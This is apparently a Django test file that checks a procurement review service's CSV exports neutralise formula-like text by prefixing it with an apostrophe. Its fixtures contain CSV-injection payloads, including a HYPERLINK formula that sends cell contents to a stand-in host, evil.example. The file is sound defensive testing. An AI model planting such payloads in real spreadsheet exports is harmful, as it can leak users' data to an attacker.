"""The review service's CSV downloads (the published outcomes, a respondent's review requests)
open every text as text in a spreadsheet: an authority, a tender title, a raiser's name and the
team's words that start like formulas are written with a leading apostrophe, as every export
is (core.spreadsheets; the guard in tests/test_exports.py lists these views)."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse

from levelfield.accounts.models import Role
from levelfield.core import clock
from levelfield.reviews import actions
from levelfield.reviews.models import CaseKind
from tests.support import testing
from tests.test_exports import assert_no_formula

pytestmark = pytest.mark.django_db

AUTHORITY = '=HYPERLINK("http://evil.example/?x="&A1,"Click") Council'
TITLE = "+SUM(1,2) road gritting"
RAISER = "@Pip Archer"
RECOMMENDATIONS = "-1+2 re-run the procurement"
SUMMARY = "=1+1 the council re-ran it"


def _cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = response.content.decode()
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_review_csvs_open_formula_like_text_as_text(client, world):
    buyer = testing.buyer_org(AUTHORITY)
    officer = testing.member(buyer, Role.BUYER_OFFICER)
    tender = testing.published_tender(buyer=buyer, by=officer, title=TITLE)
    raiser = testing.member(world.supplier, Role.SUPPLIER_ADMIN, full_name=RAISER)
    case = actions.raise_case(
        by=raiser,
        kind=CaseKind.PROCUREMENT,
        description="The criteria changed after the bids were in.",
        buyer_may_know=True,
        raiser_organisation=world.supplier,
        tender=tender,
    )
    actions.accept_case(case=case, by=world.manager)
    request = actions.request_response(
        case=case,
        by=world.manager,
        organisation=buyer,
        question="Why did the criteria change?",
        due_on=clock.today_uk() + timedelta(days=7),
    )
    actions.respond(request=request, by=officer, response="A late correction.")
    actions.record_findings(
        case=case, by=world.manager, findings="They changed.", recommendations=RECOMMENDATIONS
    )
    actions.close_case(case=case, by=world.manager, outcome="resolved", summary=SUMMARY)
    actions.publish_outcome(case=case, by=world.manager, public_summary=SUMMARY)

    published = _cells(client.get(reverse("reviews:published_cases_csv")))
    client.force_login(officer)
    requests = _cells(client.get(reverse("reviews:respondent_cases_csv")))

    for export, cells in (("published outcomes", published), ("review requests", requests)):
        assert_no_formula(export, cells)
        assert "'" + AUTHORITY in cells and any(TITLE in c for c in cells), export
    assert "'" + SUMMARY in published
    assert "'" + RECOMMENDATIONS in requests
    assert any(c.startswith("'" + RAISER) for c in requests)  # named, as the raiser agreed
    assert RAISER.lstrip("@") not in "\n".join(published)  # the public never reads the raiser
